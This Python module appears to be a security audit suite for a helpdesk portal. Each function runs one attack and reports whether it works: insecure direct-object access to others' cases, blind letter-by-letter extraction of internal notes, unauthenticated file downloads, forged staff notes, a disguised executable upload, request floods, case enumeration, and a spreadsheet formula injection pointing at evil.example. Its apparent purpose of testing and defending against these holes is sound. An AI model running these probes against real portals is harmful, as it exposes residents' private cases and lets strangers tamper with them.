"""The holes of the portal, each as what somebody does who uses it.

Every function returns what was gained, and nothing when the desk is tight. It tries the
addresses of the base and those of ours, so that a renamed page does not pass for a
closed hole.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html import unescape
from typing import Any

import openpyxl
from desk import Desk, Person, Visitor

_LINK = re.compile(r'(?:href|src)="([^"]+)"')
_DIGITS = re.compile(r"\d+")


def close_anybodys_case(desk: Desk) -> bool:
    """Row 1: a stranger closes a case by knowing, or counting up, its number."""
    case_id = desk.case(desk.ada)
    data = {"ticket_id": case_id, "stage_id": desk.stage_id}
    desk.eve.get("/ticket/close", **data)
    desk.eve.post("/ticket/close", **data)
    desk.eve.post(f"/my/case/{case_id}/withdraw")
    return desk.is_closed(case_id)


def close_as_solved(desk: Desk) -> bool:
    """Row 1: whoever filed the case says in which stage it ends: as solved."""
    case_id = desk.case(desk.ada)
    data = {"ticket_id": case_id, "stage_id": desk.stage_id}
    desk.ada.get("/ticket/close", **data)
    desk.ada.post("/ticket/close", **data)
    stage_id = desk.ask("SELECT stage_id FROM helpdesk_ticket WHERE id = %s", case_id)
    return stage_id == desk.stage_id


def file_by_a_link(desk: Desk) -> int:
    """Row 2: a picture on another site files a case in the name of who looks at it."""
    name = desk.unique("Planted ")
    for path in ("/submitted/ticket", f"/services/{desk.service_id}"):
        desk.eve.get(path, subject=name, description=name)
    return desk.count(name)


def _read_case(visitor: Visitor, case_id: int) -> list[Any]:
    """Return what somebody learns of a case by remote calls and by its pages."""
    found = [
        visitor.try_call("helpdesk.ticket", "read", [case_id], ["name"]),
        visitor.try_call("helpdesk.ticket", "search_count", [["id", "=", case_id]]),
    ]
    for path in (f"/my/ticket/{case_id}", f"/my/case/{case_id}"):
        found.append("Every night." in visitor.get(path).text)
    return [one for one in found if one]


def read_a_colleagues_case(desk: Desk) -> list[Any]:
    """Row 3: who works for the same firm reads what Ada complains about at home."""
    return _read_case(desk.ben, desk.case(desk.ada))


def read_a_relatives_case(desk: Desk) -> list[Any]:
    """Row 3: the same in a household whose contacts hang on one of them."""
    return _read_case(desk.eve, desk.case(desk.mother))


def read_as_a_followers_colleague(desk: Desk) -> list[Any]:
    """Row 3: one follower opens the case to everybody of the follower's firm."""
    witness = desk.create("res.partner", name="Witness", parent_id=desk.firm_id)
    case_id = desk.case(desk.eve)
    desk.admin("helpdesk.ticket", "message_subscribe", [case_id], [witness])
    return _read_case(desk.ben, case_id)


def read_titles_by_a_detour(desk: Desk) -> list[str]:
    """Row 4: a record that points at a case, and has no rule, tells its title.

    The base has none; ``helpdesk_mgmt_sla`` brings one with its deadlines.
    """
    found = []
    title = desk.unique("Told by a detour ")
    desk.case(desk.ada, name=title)
    links = desk.servers.ask(
        "SELECT model, name FROM ir_model_fields"
        " WHERE relation = 'helpdesk.ticket' AND ttype = 'many2one'"
    )
    for model, name in links:
        rows = desk.eve.try_call(model, "search_read", [], [name], limit=1000) or []
        found += [f"{model}: {row[name][1]}" for row in rows if row[name]]
    return found


def spell_out_a_note(desk: Desk) -> str:
    """Row 5: the petitioner guesses an internal note letter by letter."""
    case_id = desk.case(desk.ada)
    desk.note(case_id, "secret code 7291 end")
    for path in ("message_ids.body", "website_message_ids.body"):
        known = ""
        while len(known) < 4:
            for digit in "0123456789":
                guess = f"secret code {known}{digit}"
                domain = [["id", "=", case_id], [path, "ilike", guess]]
                if desk.ada.try_call("helpdesk.ticket", "search_count", domain):
                    known += digit
                    break
            else:
                break
        if known:
            return known
    return ""


def take_a_file_of_staff(desk: Desk) -> list[str]:
    """Row 6: the page links the files of internal notes, with a key for anybody."""
    case_id = desk.case(desk.ada)
    file_id = desk.create(
        "ir.attachment", name="memo.txt", raw="only for staff", mimetype="text/plain"
    )
    desk.write("ir.attachment", file_id, res_model="helpdesk.ticket", res_id=case_id)
    desk.note(case_id, "See the memo", attachment_ids=[file_id])
    links = []
    for path in (f"/my/ticket/{case_id}", f"/my/case/{case_id}"):
        links += [unescape(link) for link in _LINK.findall(desk.ada.get(path).text)]
    links += [f"/web/content/{file_id}", f"/my/case/{case_id}/file/{file_id}"]
    anybody = desk.visitor()
    return [
        link
        for link in sorted(set(links))
        if link.startswith("/") and str(file_id) in link
        for visitor in (anybody, desk.ada)
        if visitor.get(link).content == b"only for staff"
    ]


def write_a_note_of_staff(desk: Desk) -> list[str]:
    """Row 9: a resident's words stand in the case as an internal note or as a log."""
    case_id, body = desk.case(desk.ada), desk.unique("Case checked, pay at once ")
    desk.ada.try_route(
        "/mail/message/post",
        thread_model="helpdesk.ticket",
        thread_id=case_id,
        post_data={
            "body": body,
            "message_type": "notification",
            "subtype_xmlid": "mail.mt_note",
        },
    )
    desk.ada.try_call(
        "helpdesk.ticket",
        "message_post",
        [case_id],
        body=body,
        message_type="notification",
        subtype_xmlid="mail.mt_note",
    )
    rows = desk.servers.ask(
        "SELECT message_type FROM mail_message WHERE body LIKE %s"
        " AND (message_type != 'comment' OR subtype_id = %s)",
        f"%{body}%",
        desk.ref("mail.mt_note"),
    )
    return [kind for (kind,) in rows]


def blank_a_sent_message(desk: Desk) -> bool:
    """Row 9: what was said is taken back after it was answered."""
    case_id, body = desk.case(desk.ada), desk.unique("I have no dog ")
    desk.ada.route(
        "/mail/message/post",
        thread_model="helpdesk.ticket",
        thread_id=case_id,
        post_data={"body": body},
    )
    query = "SELECT id FROM mail_message WHERE res_id = %s AND body LIKE %s"
    message_id = desk.ask(query, case_id, f"%{body}%")
    assert message_id, "the message was not even taken"
    desk.ada.try_route(
        "/mail/message/update_content",
        message_id=message_id,
        update_data={"body": "", "attachment_ids": []},
    )
    return not desk.ask(query, case_id, f"%{body}%")


def write_stages_without_an_account(desk: Desk) -> int:
    """Row 10: visitors without an account have the right to write stages.

    No page hands them a call that writes, so the right itself is what is looked at.
    """
    return desk.ask(
        "SELECT count(*) FROM ir_model_access AS access"
        " JOIN ir_model AS model ON model.id = access.model_id"
        " WHERE model.model = 'helpdesk.ticket.stage' AND access.active"
        " AND access.perm_write AND access.group_id = %s",
        desk.ref("base.group_public"),
    )


def hand_out_a_key(desk: Desk) -> bool:
    """Row 11: a remote call makes a link that opens the case to anybody, for ever."""
    case_id = desk.case(desk.ada)
    desk.ada.try_call("helpdesk.ticket", "get_portal_url", [case_id])
    key = desk.ask("SELECT access_token FROM helpdesk_ticket WHERE id = %s", case_id)
    page = desk.visitor().get(f"/my/ticket/{case_id}", access_token=key)
    return bool(key) and "Every night." in page.text


def see_who_handles_it(desk: Desk) -> list[str]:
    """Row 11: the petitioner reads, and counts by, how the city works on the case."""
    case_id = desk.case(desk.ada, user_id=desk.officer.user_id, color=3)
    found = []
    for name, value in (("user_id", desk.officer.user_id), ("color", 3)):
        rows = desk.ada.try_call("helpdesk.ticket", "read", [case_id], [name])
        domain = [["id", "=", case_id], [name, "=", value]]
        if rows and rows[0][name]:
            found.append(f"read {name}")
        if desk.ada.try_call("helpdesk.ticket", "search_count", domain):
            found.append(f"count by {name}")
    return found


def _file(desk: Desk, person: Person, title: str, text: str) -> list[int]:
    """Send a case in by every form there is; return what the server answers."""
    return [
        person.post(path, follow=False, subject=title, description=text).status_code
        for path in ("/submitted/ticket", f"/services/{desk.service_id}")
    ]


def store_anything(desk: Desk) -> list[str]:
    """Row 12: an empty case and a case with megabytes of title are both taken."""
    found = []
    for title, text in (("", ""), ("x" * 4_000_000, "y"), ("z", "z" * 4_000_000)):
        _file(desk, desk.mother, title, text)
        rows = desk.servers.ask(
            "SELECT char_length(name), char_length(description) FROM helpdesk_ticket"
            " WHERE partner_id = %s",
            desk.mother.partner_id,
        )
        found += [
            f"{sizes}" for sizes in rows if max(sizes) > 150_000 or min(sizes) < 1
        ]
    return found


def store_any_file(desk: Desk) -> list[str]:
    """Row 12: a program that calls itself a photo is kept for the staff to open."""
    name = desk.unique("photo") + ".jpg"
    program = b"MZ" + bytes(200)
    for path in ("/submitted/ticket", f"/services/{desk.service_id}"):
        for field in ("attachment", "files"):
            files = {field: (name, program)}
            desk.mother.post(path, files=files, subject=name, description=name)
    rows = desk.servers.ask("SELECT mimetype FROM ir_attachment WHERE name = %s", name)
    return [mimetype for (mimetype,) in rows]


def store_any_message(desk: Desk) -> list[int]:
    """Row 12: a message may be empty, or four million characters long."""
    case_id = desk.case(desk.ada)
    for body in ("", "x" * 4_000_000):
        desk.ada.try_route(
            "/mail/message/post",
            thread_model="helpdesk.ticket",
            thread_id=case_id,
            post_data={"body": body},
        )
    rows = desk.servers.ask(
        "SELECT coalesce(char_length(body), 0) FROM mail_message"
        " WHERE model = 'helpdesk.ticket' AND res_id = %s AND message_type = 'comment'",
        case_id,
    )
    return [size for (size,) in rows if not 0 < size < 150_000]


def stumble(desk: Desk) -> list[str]:
    """Row 12: whatever is in the address, the answer is never a server error."""
    case_id = desk.case(desk.ada)
    addresses = [
        f"{page}?{query}"
        for page in ("/my/tickets", "/my/cases")
        for query in (
            "sortby=x",
            "groupby=x&sortby=y",
            "search=%00",
            "search=x&search_in=y",
            "date_begin=x&date_end=y",
            "page=x",
        )
    ]
    addresses += ["/ticket/close", "/ticket/close?ticket_id=x"]
    addresses += [f"/ticket/close?ticket_id={case_id}&stage_id=x"]
    addresses += ["/submitted/ticket?category=x", "/submitted/ticket"]
    return [path for path in addresses if desk.ada.get(path).status_code >= 500]


def flood(desk: Desk) -> bool:
    """Row 13: one person files forty cases in a moment."""
    title = desk.unique("Flood ")
    statuses = [_file(desk, desk.eve, title, title) for _number in range(40)]
    return desk.count(title) >= 40 and not any(429 in pair for pair in statuses)


def probe_for_cases(desk: Desk) -> list[str]:
    """Row 13: what is there but somebody else's is answered unlike what is not."""
    case_id, none = desk.case(desk.ada), 2_000_000_000
    found = []
    for path in ("/ticket/close", "/my/ticket/%s", "/my/case/%s"):
        answers = set()
        for number in (case_id, none):
            if "%" in path:
                page = desk.eve.get(path % number)
            else:
                page = desk.eve.post(path, ticket_id=number, stage_id=0)
            answers.add((page.status_code, _DIGITS.sub("N", page.url)))
        if len(answers) > 1:
            found.append(f"{path}: {answers}")
    return found


def export_a_formula(desk: Desk) -> list[str]:
    """Row 14: a title runs as a formula in the spreadsheet of who exports it."""
    title = '=HYPERLINK("http://evil.example")'
    cases = [desk.case(desk.ada, name=name) for name in (title, "@SUM(1)", "\tx")]
    data = json.dumps(
        {
            "model": "helpdesk.ticket",
            "fields": [{"name": "name", "label": "Title", "type": "char"}],
            "ids": cases,
            "domain": [],
            "import_compat": False,
        }
    )
    table = desk.officer.post("/web/export/csv", data=data)
    assert table.status_code == 200, table.text[:1000]
    _header, *rows = csv.reader(io.StringIO(table.content.decode("utf-8-sig")))
    found = [text for (text,) in rows if text[:1] in "=+-@\t\r"]
    book = desk.officer.post("/web/export/xlsx", data=data)
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    found += [c.value for [c] in sheet.iter_rows(min_row=2) if c.data_type == "f"]
    return found


def keep_or_frame_a_page(desk: Desk) -> list[str]:
    """Row 16: the page stays in a cache, or in a frame of another site."""
    case_id, found = desk.case(desk.ada), []
    page = desk.ada.get(f"/my/ticket/{case_id}")
    assert page.status_code == 200, page.status_code
    assert "Every night." in page.text
    if "no-store" not in page.headers.get("Cache-Control", ""):
        found.append("stored")
    if "frame-ancestors" not in page.headers.get("Content-Security-Policy", ""):
        found.append("framed")
    return found


HOLES = [
    (1, close_anybodys_case),
    (1, close_as_solved),
    (2, file_by_a_link),
    (3, read_a_colleagues_case),
    (3, read_a_relatives_case),
    (3, read_as_a_followers_colleague),
    (5, spell_out_a_note),
    (6, take_a_file_of_staff),
    (9, write_a_note_of_staff),
    (9, blank_a_sent_message),
    (10, write_stages_without_an_account),
    (11, hand_out_a_key),
    (11, see_who_handles_it),
    (12, store_anything),
    (12, store_any_file),
    (12, store_any_message),
    (12, stumble),
    (13, flood),
    (13, probe_for_cases),
    (14, export_a_formula),
    (16, keep_or_frame_a_page),
]
